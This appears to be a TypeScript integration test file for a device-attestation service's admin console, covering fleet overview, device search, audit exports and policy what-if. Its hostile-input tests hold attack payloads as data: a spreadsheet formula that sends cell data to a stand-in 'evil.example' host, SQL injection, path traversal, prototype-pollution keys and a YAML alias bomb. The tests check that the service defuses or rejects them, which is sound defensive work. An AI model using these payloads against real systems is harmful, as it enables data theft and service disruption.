// IT's console's data over its JSON admin routes, against the real service on SQLite and on
// PostgreSQL: five devices with different postures (and a sixth IT disabled), the fleet's
// counts and trend, search by hostname, id and serial, a device's refusals with their reason,
// policy version and audit ids, audit filters with both exports (a formula in a cell is
// defused), the policy's history after two edits, validation with line numbers, a what-if that
// blocks exactly three devices, and hostile input answered with typed errors.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { test } from 'node:test';
import type { CheckId, Verdict } from '../../common/posture.js';
import { writeAudit } from '../../service/audit-log.js';
import { createConsoleData } from '../../service/console/data/console-data.js';
import type { AuditPage, DeviceDetail, DeviceSearchPage, FleetOverview, PolicyHistory, PolicyValidation, WhatIfResult } from '../../service/console/data/console-data-types.js';
import { csvCell } from '../../service/console/data/csv-cells.js';
import { ServiceError } from '../../service/errors.js';
import { openPolicyFile } from '../../service/policy/load-policy.js';
import { DEFAULT_POLICY_YAML } from '../../service/policy/policy-schema.js';
import { FakeDevice, HEALTHY_LINUX, post } from '../kit/fake-device.js';
import type { TestDatabase, TestService } from '../kit/service.js';
import { startTestService } from '../kit/service.js';

const DAY_MS = 86_400_000;

/** A draft that needs a pass of every check for either tier, with no grace: warnings block. */
const STRICT_DRAFT = `version: 2
tokenLifetimeMinutes: 5
certificateLifetimeDays: 90
rotateDeviceKeyOnRenewal: false
enrolment:
  mode: secret
tiers:
  full:
    os-patch: [pass]
    disk-encryption: [pass]
    firewall: [pass]
    screen-lock: [pass]
  limited:
    os-patch: [pass]
    disk-encryption: [pass]
    firewall: [pass]
    screen-lock: [pass]
graceHours:
  os-patch: 0
  screen-lock: 0
  disk-encryption: 0
  firewall: 0
notApplicable:
  linux: [antivirus]
`;

/** What cart-12's agent collects (common/inventory.ts), sent with its evidence. */
const CART_INVENTORY = {
  schema: 'dta-inventory/1',
  collectedAt: new Date().toISOString(),
  system: { manufacturer: 'HP', model: 'HP EliteDesk 800 G6', version: '', serial: 'CZC4471XYZ', uuid: '', sku: '', virtual: false },
  chassis: { manufacturer: 'HP', type: 'Desktop', serial: 'CZC4471XYZ', assetTag: 'MED-CART-0012' },
  os: { platform: 'linux', distro: 'Debian GNU/Linux', release: '12', codename: 'bookworm', build: '', kernel: '6.1.0-28-amd64', arch: 'x64', hostname: 'cart-12', fqdn: 'cart-12.ward.example' },
  missing: [],
};

interface Fleet {
  readonly svc: TestService;
  /** Name to device. */
  readonly devices: ReadonlyMap<string, FakeDevice>;
  /** Moves the service's clock (reads only, after every attestation). */
  advance(ms: number): void;
}

async function enrolWithHostname(svc: TestService, device: FakeDevice, hostname: string): Promise<void> {
  const res = await post(`${svc.url}/v1/enrol`, { csr: await device.csr(), platform: device.platform, hostname, enrolmentSecret: svc.enrolmentSecret });
  const body = (await res.json()) as { state: string; chainPem: string };
  assert.equal(res.status, 201, JSON.stringify(body));
  device.certPem = body.chainPem;
}

async function attestWith(svc: TestService, device: FakeDevice, verdicts: Partial<Record<CheckId, Verdict>>, keyProtection: 'hardware' | 'software', inventory?: unknown): Promise<{ status: number; tier?: string }> {
  const evidence = await device.evidence(await device.nonce(svc.url), verdicts, { key_protection: keyProtection, ...(inventory !== undefined ? { dta_inventory: inventory } : {}) });
  const res = await post(`${svc.url}/v1/attest`, { evidence });
  const body = (await res.json()) as { tier?: string };
  return { status: res.status, ...(body.tier !== undefined ? { tier: body.tier } : {}) };
}

/** Five linux devices: full (hardware key), full with a screen-lock warning, full with an os-patch warning, limited by disk encryption, none by the firewall; and a sixth that IT disabled. */
async function startFleet(database: TestDatabase): Promise<Fleet> {
  let offset = 0;
  const svc = await startTestService({ database, now: () => new Date(Date.now() + offset) });
  const devices = new Map<string, FakeDevice>();
  const postures: [string, Partial<Record<CheckId, Verdict>>, 'hardware' | 'software', string][] = [
    ['ward-3b-pc01', HEALTHY_LINUX, 'hardware', 'full'],
    ['ward-3b-pc02', { ...HEALTHY_LINUX, 'screen-lock': 'warn' }, 'software', 'full'],
    ['radiology-ws07', { ...HEALTHY_LINUX, 'os-patch': 'warn' }, 'software', 'full'],
    ['cart-12', { ...HEALTHY_LINUX, 'disk-encryption': 'warn' }, 'software', 'limited'],
    ['ed-triage-04', { ...HEALTHY_LINUX, firewall: 'fail' }, 'software', 'none'],
    ['old-kiosk', HEALTHY_LINUX, 'software', 'full'],
  ];
  try {
    for (const [hostname, verdicts, keyProtection, tier] of postures) {
      const device = await FakeDevice.create('linux');
      await enrolWithHostname(svc, device, hostname);
      const result = await attestWith(svc, device, verdicts, keyProtection, hostname === 'cart-12' ? CART_INVENTORY : undefined);
      assert.deepEqual(result, { status: 200, tier }, hostname);
      devices.set(hostname, device);
    }
    const kiosk = devices.get('old-kiosk');
    assert.ok(kiosk);
    assert.equal((await svc.admin('POST', `/v1/admin/devices/${kiosk.deviceId}/disable`)).status, 204);
    assert.equal((await kiosk.attest(svc.url)).status, 403, 'a disabled device is refused');
  } catch (e) {
    await svc.close();
    throw e;
  }
  return { svc, devices, advance: (ms) => void (offset += ms) };
}

function idOf(fleet: Fleet, hostname: string): string {
  const device = fleet.devices.get(hostname);
  assert.ok(device, hostname);
  return device.deviceId;
}

async function getJson<T>(svc: TestService, path: string, expected = 200): Promise<T> {
  const res = await svc.admin('GET', path);
  const text = await res.text();
  assert.equal(res.status, expected, `${path}: ${text}`);
  return JSON.parse(text) as T;
}

async function postJson<T>(svc: TestService, path: string, body: unknown, expected = 200): Promise<T> {
  const res = await fetch(`${svc.url}${path}`, { method: 'POST', headers: { authorization: `Bearer ${svc.adminToken}`, 'content-type': 'application/json' }, body: JSON.stringify(body) });
  const text = await res.text();
  assert.equal(res.status, expected, `${path}: ${text}`);
  return JSON.parse(text) as T;
}

for (const database of ['sqlite', 'postgres'] as const) {
  test(`${database}: the fleet by status, tier, failing check and key protection; not seen after N days; the trend by day`, async () => {
    const fleet = await startFleet(database);
    try {
      const now = await getJson<FleetOverview>(fleet.svc, '/v1/admin/fleet');
      assert.deepEqual(now.byStatus, { pending: 0, active: 5, disabled: 1, revoked: 0 });
      assert.deepEqual(now.byTier, { full: 3, limited: 1, none: 1, neverAttested: 0 });
      assert.deepEqual(now.byFailingCheck, [{ check: 'disk-encryption', devices: 1 }, { check: 'firewall', devices: 1 }]);
      assert.deepEqual(now.keyProtection, { hardware: 1, software: 4, unknown: 0, attested: 0 });
      assert.equal(now.notSeen.devices, 0);
      assert.equal(now.trend.length, 30);
      assert.deepEqual(now.trend.at(-1)?.tiers, { full: 3, limited: 1, none: 1 });
      assert.equal(now.trend.at(-2)?.tiers, null, 'nothing was recorded yesterday');

      // Eight days on, nobody attested: every active device is not seen for 7 days, the trend keeps both days.
      fleet.advance(8 * DAY_MS);
      const later = await getJson<FleetOverview>(fleet.svc, '/v1/admin/fleet?notSeenDays=7&trendDays=10');
      assert.equal(later.notSeen.devices, 5);
      assert.deepEqual(new Set(later.notSeen.oldest.map((d) => d.hostname)), new Set(['ward-3b-pc01', 'ward-3b-pc02', 'radiology-ws07', 'cart-12', 'ed-triage-04']));
      assert.equal((await getJson<FleetOverview>(fleet.svc, '/v1/admin/fleet?notSeenDays=9')).notSeen.devices, 0);
      assert.equal(later.trend.length, 10);
      assert.deepEqual(later.trend[1]?.tiers, { full: 3, limited: 1, none: 1 }, 'eight days ago, as recorded then');
      assert.deepEqual(later.trend.at(-1)?.tiers, { full: 3, limited: 1, none: 1 });
      assert.deepEqual(later.trend.slice(2, -1).map((d) => d.tiers), Array.from({ length: 7 }, () => null));
    } finally {
      await fleet.svc.close();
    }
  });

  test(`${database}: devices are found by hostname, id prefix and serial (from the inventory), page by page; a device's detail shows its refusals with reason, policy version and audit ids`, async () => {
    const fleet = await startFleet(database);
    try {
      const { svc } = fleet;
      const cart = idOf(fleet, 'cart-12');
      // A damaged row (not JSON): read as no inventory, never a failed search.
      await svc.running.db.kysely.insertInto('device_inventory').values({ device_id: idOf(fleet, 'ed-triage-04'), collected_at: Date.now(), inventory: '{"serial": "CZC' }).execute();

      const ward = await getJson<DeviceSearchPage>(svc, '/v1/admin/devices/search?q=WARD-3B');
      assert.deepEqual(ward.devices.map((d) => [d.hostname, d.matched]).sort(), [['ward-3b-pc01', 'hostname'], ['ward-3b-pc02', 'hostname']]);
      assert.equal(ward.next, null);
      const first = await getJson<DeviceSearchPage>(svc, '/v1/admin/devices/search?q=ward&limit=1');
      assert.equal(first.devices.length, 1);
      assert.ok(first.next !== null);
      const second = await getJson<DeviceSearchPage>(svc, `/v1/admin/devices/search?q=ward&limit=1&after=${first.next}`);
      assert.equal(second.devices.length, 1);
      assert.notEqual(second.devices[0]?.id, first.devices[0]?.id);

      const bySerial = await getJson<DeviceSearchPage>(svc, '/v1/admin/devices/search?q=czc4471');
      assert.deepEqual(bySerial.devices.map((d) => [d.id, d.matched, d.serial, d.model]), [[cart, 'serial', 'CZC4471XYZ', 'HP EliteDesk 800 G6']]);
      const byAssetTag = await getJson<DeviceSearchPage>(svc, '/v1/admin/devices/search?q=med-cart');
      assert.deepEqual(byAssetTag.devices.map((d) => [d.id, d.matched, d.displayName]), [[cart, 'displayName', 'MED-CART-0012']]);
      const byId = await getJson<DeviceSearchPage>(svc, `/v1/admin/devices/search?q=${cart.slice(0, 10)}`);
      assert.deepEqual(byId.devices.map((d) => [d.id, d.matched]), [[cart, 'id']]);
      // A key of the inventory's JSON is not a serial; LIKE's wildcards are taken literally.
      assert.deepEqual((await getJson<DeviceSearchPage>(svc, '/v1/admin/devices/search?q=serial')).devices, []);
      assert.deepEqual((await getJson<DeviceSearchPage>(svc, '/v1/admin/devices/search?q=%25')).devices, []);
      assert.deepEqual((await getJson<DeviceSearchPage>(svc, '/v1/admin/devices/search?q=_')).devices, []);

      const cartDetail = await getJson<DeviceDetail>(svc, `/v1/admin/devices/${cart}/detail`);
      assert.equal(cartDetail.device.hostname, 'cart-12');
      assert.deepEqual([cartDetail.inventory?.serial, cartDetail.inventory?.manufacturer, cartDetail.inventory?.model, cartDetail.inventory?.osBuild], ['CZC4471XYZ', 'HP', 'HP EliteDesk 800 G6', '12']);
      assert.equal(cartDetail.certificate?.subject, `CN=${cart}`);
      assert.equal(cartDetail.certificate?.expired, false);
      assert.deepEqual(cartDetail.key, { protection: 'software', attested: false });
      assert.equal(cartDetail.posture?.checks.find((c) => c.id === 'disk-encryption')?.verdict, 'warn');
      assert.deepEqual(cartDetail.posture?.failingSince.map((f) => f.check), ['disk-encryption']);
      assert.deepEqual(cartDetail.postureHistory.map((h) => [h.tier, h.policyVersion]), [['limited', 1]]);
      assert.deepEqual(cartDetail.refusals, [], 'a limited tier is not a refusal');
      // Attestations with the same outcome are one run in the history; a change starts another.
      const pc01 = fleet.devices.get('ward-3b-pc01');
      assert.ok(pc01);
      for (const verdicts of [HEALTHY_LINUX, HEALTHY_LINUX, { ...HEALTHY_LINUX, 'screen-lock': 'warn' as const }]) assert.equal((await attestWith(svc, pc01, verdicts, 'hardware')).status, 200);
      const pc01Detail = await getJson<DeviceDetail>(svc, `/v1/admin/devices/${pc01.deviceId}/detail`);
      assert.equal(pc01Detail.key.protection, 'hardware');
      assert.deepEqual(pc01Detail.postureHistory.map((h) => [h.tier, h.attestations, h.checks['screen-lock']]), [['full', 1, 'warn'], ['full', 3, 'pass']]);

      const audit = await svc.audit();
      const ed = idOf(fleet, 'ed-triage-04');
      const edDetail = await getJson<DeviceDetail>(svc, `/v1/admin/devices/${ed}/detail`);
      assert.equal(edDetail.inventory?.serial ?? null, null, 'an inventory that is not JSON reads as empty');
      const edAttest = audit.find((r) => r.deviceId === ed && r.action === 'attest');
      assert.ok(edAttest);
      assert.deepEqual(edDetail.refusals.map((r) => [r.code, r.policyVersion, r.auditIds, r.checks]), [['TIER_NONE', 1, [edAttest.id], ['firewall']]]);
      assert.match(edDetail.refusals[0]?.message ?? '', /firewall/);

      const kiosk = idOf(fleet, 'old-kiosk');
      const kioskDetail = await getJson<DeviceDetail>(svc, `/v1/admin/devices/${kiosk}/detail`);
      const refused = audit.find((r) => r.deviceId === kiosk && r.outcome === 'refused');
      assert.ok(refused);
      assert.deepEqual(kioskDetail.refusals.map((r) => [r.code, r.action, r.policyVersion, r.auditIds]), [['DEVICE_DISABLED', 'attest', 1, [refused.id]]]);
      assert.equal(kioskDetail.refusals[0]?.message, 'This device was disabled by IT.');
      assert.equal(kioskDetail.device.status, 'disabled');
    } finally {
      await fleet.svc.close();
    }
  });

  test(`${database}: the audit filtered by device, actor, action, outcome and time, paged by id; both exports hold exactly the filtered records, formulas defused`, async () => {
    const fleet = await startFleet(database);
    try {
      const { svc } = fleet;
      const kiosk = idOf(fleet, 'old-kiosk');
      const all = await svc.audit();
      const kioskRecords = all.filter((r) => r.deviceId === kiosk).map((r) => r.id).reverse();
      const page1 = await getJson<AuditPage>(svc, `/v1/admin/audit/search?deviceId=${kiosk}&limit=2`);
      assert.deepEqual(page1.records.map((r) => r.id), kioskRecords.slice(0, 2));
      const page2 = await getJson<AuditPage>(svc, `/v1/admin/audit/search?deviceId=${kiosk}&limit=2&before=${page1.next}`);
      assert.deepEqual(page2.records.map((r) => r.id), kioskRecords.slice(2, 4));
      const refused = await getJson<AuditPage>(svc, `/v1/admin/audit/search?deviceId=${kiosk}&outcome=refused`);
      assert.deepEqual(refused.records.map((r) => [r.action, r.code]), [['attest', 'DEVICE_DISABLED']]);
      const adminActions = await getJson<AuditPage>(svc, '/v1/admin/audit/search?actor=admin:*&action=admin.disable');
      assert.deepEqual(adminActions.records.map((r) => r.deviceId), [kiosk]);
      const attests = all.filter((r) => r.action === 'attest' && r.outcome === 'ok');
      const firstAt = Date.parse(attests[0]?.at ?? '');
      const fromSecond = all.filter((r) => r.action === 'attest' && r.outcome === 'ok' && Date.parse(r.at) > firstAt);
      const timed = await getJson<AuditPage>(svc, `/v1/admin/audit/search?action=attest&outcome=ok&from=${firstAt + 1}&to=${new Date(Date.now() + 60_000).toISOString()}`);
      assert.deepEqual(timed.records.map((r) => r.id).sort((a, b) => a - b), fromSecond.map((r) => r.id));

      // An actor the identity provider named, which a spreadsheet would run as a formula.
      const hostileActor = '=HYPERLINK("http://evil.example/?"&A1,"click")';
      await writeAudit(svc.running.db.kysely, { actor: hostileActor, action: 'admin.disable', deviceId: kiosk, outcome: 'ok', details: { reason: '-2+3' } }, Date.now());

      const filter = `deviceId=${kiosk}&action=admin.disable`;
      const jsonl = await svc.admin('GET', `/v1/admin/audit/search?${filter}&format=jsonl`);
      assert.equal(jsonl.status, 200);
      assert.match(jsonl.headers.get('content-type') ?? '', /application\/x-ndjson/);
      const lines = (await jsonl.text()).trim().split('\n').map((l) => JSON.parse(l) as { id: number; actor: string; action: string });
      const expected = (await svc.audit()).filter((r) => r.deviceId === kiosk && r.action === 'admin.disable');
      assert.equal(expected.length, 2);
      assert.deepEqual(lines.map((l) => l.id), expected.map((r) => r.id));

      const csv = await svc.admin('GET', `/v1/admin/audit/search?${filter}&format=csv`);
      assert.equal(csv.status, 200);
      assert.match(csv.headers.get('content-type') ?? '', /text\/csv/);
      const rows = (await csv.text()).split('\r\n').filter((l) => l !== '');
      assert.equal(rows[0], 'id,at,actor,action,deviceId,outcome,code,attestationId,details');
      assert.equal(rows.length, 3);
      assert.ok(rows[2]?.startsWith(`${expected[1]?.id},`), rows[2]);
      assert.ok(rows[2]?.includes(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",admin.disable,`), rows[2]);
      assert.ok(!/,=|,"=|,\+|,-|,@/.test(rows[2] ?? ''), 'no cell starts with a formula character');
      assert.ok(rows[2]?.endsWith(`"{""reason"":""-2+3""}"`), rows[2]);
    } finally {
      await fleet.svc.close();
    }
  });

  test(`${database}: a what-if of a stricter draft lists exactly the three devices it blocks, with the checks that decide; validation and the policy's history after two edits`, async () => {
    const fleet = await startFleet(database);
    try {
      const { svc } = fleet;
      const whatIf = await postJson<WhatIfResult>(svc, '/v1/admin/policy/what-if', { draft: STRICT_DRAFT, changedOnly: true });
      assert.equal(whatIf.currentVersion, 1);
      assert.equal(whatIf.draftVersion, 2);
      assert.deepEqual(whatIf.totals, { devices: 5, gained: 0, lost: 3, same: 2, draft: { full: 1, limited: 0, none: 4 }, current: { full: 3, limited: 1, none: 1 } });
      assert.equal(whatIf.withoutPosture, 0);
      const lost = whatIf.devices.map((d) => [d.hostname, d.currentTier, d.draftTier, d.change, d.decidingChecks]).sort();
      assert.deepEqual(lost, [
        ['cart-12', 'limited', 'none', 'lost', ['disk-encryption']],
        ['radiology-ws07', 'full', 'none', 'lost', ['os-patch']],
        ['ward-3b-pc02', 'full', 'none', 'lost', ['screen-lock']],
      ]);
      const everyone = await postJson<WhatIfResult>(svc, '/v1/admin/policy/what-if', { draft: STRICT_DRAFT });
      assert.equal(everyone.devices.length, 5, 'the disabled device is not evaluated');
      const ed = everyone.devices.find((d) => d.hostname === 'ed-triage-04');
      assert.deepEqual([ed?.change, ed?.currentDecidingChecks, ed?.decidingChecks], ['same', ['firewall'], ['firewall']]);
      // The same evaluation as the service: a draft needing a hardware key for full keeps only the hardware device there.
      const hardware = await postJson<WhatIfResult>(svc, '/v1/admin/policy/what-if', { draft: DEFAULT_POLICY_YAML.replace('version: 1', 'version: 2').replace('hardwareKeyRequiredFor: []', 'hardwareKeyRequiredFor: [full]') });
      assert.deepEqual(hardware.totals.draft, { full: 1, limited: 3, none: 1 });
      assert.ok(hardware.devices.filter((d) => d.change === 'lost').every((d) => d.draftNeedsHardwareKey));

      const valid = await postJson<PolicyValidation>(svc, '/v1/admin/policy/validate', { text: STRICT_DRAFT });
      assert.deepEqual(valid, { valid: true, problems: [], version: 2 });
      const wrongVerdict = await postJson<PolicyValidation>(svc, '/v1/admin/policy/validate', { text: DEFAULT_POLICY_YAML.replace('firewall: [pass]', 'firewall: [maybe]') });
      assert.equal(wrongVerdict.valid, false);
      assert.deepEqual(wrongVerdict.problems.map((p) => p.line), [12]);
      assert.match(wrongVerdict.problems[0]?.message ?? '', /\/tiers\/full\/firewall\/0/);
      const broken = await postJson<PolicyValidation>(svc, '/v1/admin/policy/validate', { text: 'version: 2\ntiers: [full,\n' });
      assert.equal(broken.valid, false);
      assert.ok(broken.problems.every((p) => typeof p.line === 'number'), JSON.stringify(broken.problems));
      const invalidWhatIf = await postJson<{ error: { code: string; message: string } }>(svc, '/v1/admin/policy/what-if', { draft: DEFAULT_POLICY_YAML.replace('tokenLifetimeMinutes: 5 ', 'tokenLifetimeMinutes: 60') }, 422);
      assert.equal(invalidWhatIf.error.code, 'POLICY_INVALID');
      assert.match(invalidWhatIf.error.message, /line 3: \/tokenLifetimeMinutes/);

      const sha = (text: string): string => createHash('sha256').update(text).digest('hex');
      const v2 = DEFAULT_POLICY_YAML.replace('version: 1', 'version: 2').replace('tokenLifetimeMinutes: 5 ', 'tokenLifetimeMinutes: 10');
      const v3 = v2.replace('version: 2', 'version: 3').replace('screen-lock: 24', 'screen-lock: 12');
      let history = await getJson<PolicyHistory>(svc, '/v1/admin/policy/history');
      assert.deepEqual(history.versions.map((v) => [v.version, v.sha256]), [[1, sha(DEFAULT_POLICY_YAML)]]);
      for (const [text, version] of [[v2, 2], [v3, 3]] as const) {
        writeFileSync(svc.policyPath, text);
        const deadline = Date.now() + 5000;
        while (Date.now() < deadline) {
          history = await getJson<PolicyHistory>(svc, '/v1/admin/policy/history');
          if (history.versions[0]?.version === version) break;
          await new Promise((r) => setTimeout(r, 50));
        }
      }
      assert.deepEqual(history.versions.map((v) => [v.version, v.sha256]), [[3, sha(v3)], [2, sha(v2)], [1, sha(DEFAULT_POLICY_YAML)]]);
      assert.equal(history.current.version, 3);
      assert.equal(history.current.text, v3);
      // The what-if now compares against version 3 in force.
      assert.equal((await postJson<WhatIfResult>(svc, '/v1/admin/policy/what-if', { draft: STRICT_DRAFT.replace('version: 2', 'version: 4') })).currentVersion, 3);
    } finally {
      await fleet.svc.close();
    }
  });
}

test('hostile input on every console data route is a typed 400, 401 before anything else, 404 for an unknown device', async () => {
  const svc = await startTestService();
  try {
    const bad = async (path: string, init: RequestInit = {}, status = 400, code = 'BAD_REQUEST'): Promise<void> => {
      const res = await fetch(`${svc.url}${path}`, { ...init, headers: { authorization: `Bearer ${svc.adminToken}`, ...(init.body !== undefined ? { 'content-type': 'application/json' } : {}), ...init.headers } });
      const body = (await res.json()) as { error?: { code: string } };
      assert.equal(res.status, status, `${path}: ${JSON.stringify(body)}`);
      assert.equal(body.error?.code, code, path);
    };
    // No token: refused before the parameters are looked at.
    const anonymous = await fetch(`${svc.url}/v1/admin/devices/search?q=${'x'.repeat(500)}`);
    assert.equal(anonymous.status, 401);
    assert.equal(((await anonymous.json()) as { error: { code: string } }).error.code, 'UNAUTHORIZED');
    const wrongToken = await fetch(`${svc.url}/v1/admin/policy/what-if`, { method: 'POST', headers: { authorization: 'Bearer nope', 'content-type': 'application/json' }, body: JSON.stringify({ draft: 'x' }) });
    assert.equal(wrongToken.status, 401);

    await bad('/v1/admin/fleet?notSeenDays=0');
    await bad('/v1/admin/fleet?notSeenDays=-1');
    await bad('/v1/admin/fleet?trendDays=91');
    await bad('/v1/admin/fleet?notSeenDays=7&notSeenDays=8');
    await bad('/v1/admin/fleet?constructor=1');
    await bad('/v1/admin/devices/search');
    await bad(`/v1/admin/devices/search?q=${'x'.repeat(129)}`);
    await bad('/v1/admin/devices/search?q=%00');
    await bad('/v1/admin/devices/search?q=a%0Ab');
    await bad('/v1/admin/devices/search?q=%20%20');
    await bad('/v1/admin/devices/search?q=ward&limit=0');
    await bad('/v1/admin/devices/search?q=ward&limit=201');
    await bad('/v1/admin/devices/search?q=ward&after=../../etc');
    await bad('/v1/admin/devices/search?q=ward&__proto__=x');
    await bad('/v1/admin/devices/constructor/detail');
    await bad(`/v1/admin/devices/${'A'.repeat(32)}/detail`);
    await bad(`/v1/admin/devices/${'0'.repeat(32)}/detail`, {}, 404, 'NOT_FOUND');
    await bad('/v1/admin/audit/search?deviceId=1%27%20OR%201=1');
    await bad('/v1/admin/audit/search?outcome=maybe');
    await bad('/v1/admin/audit/search?action=DROP%20TABLE');
    await bad('/v1/admin/audit/search?from=yesterday');
    await bad('/v1/admin/audit/search?from=2026-13-45');
    await bad('/v1/admin/audit/search?from=2000&to=1000');
    await bad('/v1/admin/audit/search?before=0');
    await bad('/v1/admin/audit/search?limit=501');
    await bad('/v1/admin/audit/search?format=xlsx');
    await bad('/v1/admin/audit/search?format=csv&limit=10');
    await bad(`/v1/admin/audit/search?actor=${'a'.repeat(201)}`);
    await bad('/v1/admin/audit/search?actor=a%0Db');
    await bad('/v1/admin/policy/validate', { method: 'POST', body: JSON.stringify({ text: 42 }) });
    await bad('/v1/admin/policy/validate', { method: 'POST', body: JSON.stringify({ text: 'x'.repeat(64 * 1024 + 1) }) });
    await bad('/v1/admin/policy/validate', { method: 'POST', body: JSON.stringify({ text: 'version: 1', extra: true }) });
    await bad('/v1/admin/policy/validate', { method: 'POST', body: '{"text":' });
    await bad('/v1/admin/policy/what-if', { method: 'POST', body: JSON.stringify({ draft: DEFAULT_POLICY_YAML, limit: 0 }) });
    await bad('/v1/admin/policy/what-if', { method: 'POST', body: JSON.stringify({ draft: DEFAULT_POLICY_YAML, changedOnly: 'yes' }) });
    await bad('/v1/admin/policy/what-if', { method: 'POST', body: JSON.stringify({ draft: 'version: [1,\n' }) }, 422, 'POLICY_INVALID');
    // A YAML alias bomb is refused by the parser's alias limit, not expanded.
    const bomb = `a: &a [x, x, x, x, x, x, x, x, x, x]\n${Array.from({ length: 12 }, (_, i) => `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [${Array.from({ length: 10 }, () => `*${String.fromCharCode(97 + i)}`).join(', ')}]`).join('\n')}\n`;
    const bombed = await fetch(`${svc.url}/v1/admin/policy/validate`, { method: 'POST', headers: { authorization: `Bearer ${svc.adminToken}`, 'content-type': 'application/json' }, body: JSON.stringify({ text: bomb }) });
    assert.equal(bombed.status, 200);
    assert.equal(((await bombed.json()) as PolicyValidation).valid, false);
    // Still serving.
    assert.equal((await svc.admin('GET', '/v1/admin/fleet')).status, 200);
  } finally {
    await svc.close();
  }
});

test('a CSV cell that a spreadsheet would run as a formula is prefixed; quotes, commas and line breaks are quoted (RFC 4180)', () => {
  assert.deepEqual(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx'].map(csvCell), ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", `"'\rx"`]);
  assert.deepEqual(['plain', 'a,b', 'say "hi"', 'two\nlines', '1-2', ''].map(csvCell), ['plain', '"a,b"', '"say ""hi"""', '"two\nlines"', '1-2', '']);
});

test('one what-if at a time per instance: a second while one runs is RATE_LIMITED, the next after it runs', async () => {
  const svc = await startTestService();
  const store = await openPolicyFile(svc.policyPath);
  try {
    const data = createConsoleData({ db: svc.running.db, policy: store, now: () => new Date() });
    const first = data.whatIf({ draftText: DEFAULT_POLICY_YAML });
    await assert.rejects(data.whatIf({ draftText: DEFAULT_POLICY_YAML }), (e: unknown) => e instanceof ServiceError && e.code === 'RATE_LIMITED');
    assert.equal((await first).totals.devices, 0);
    assert.equal((await data.whatIf({ draftText: DEFAULT_POLICY_YAML })).totals.devices, 0);
  } finally {
    store.close();
    await svc.close();
  }
});
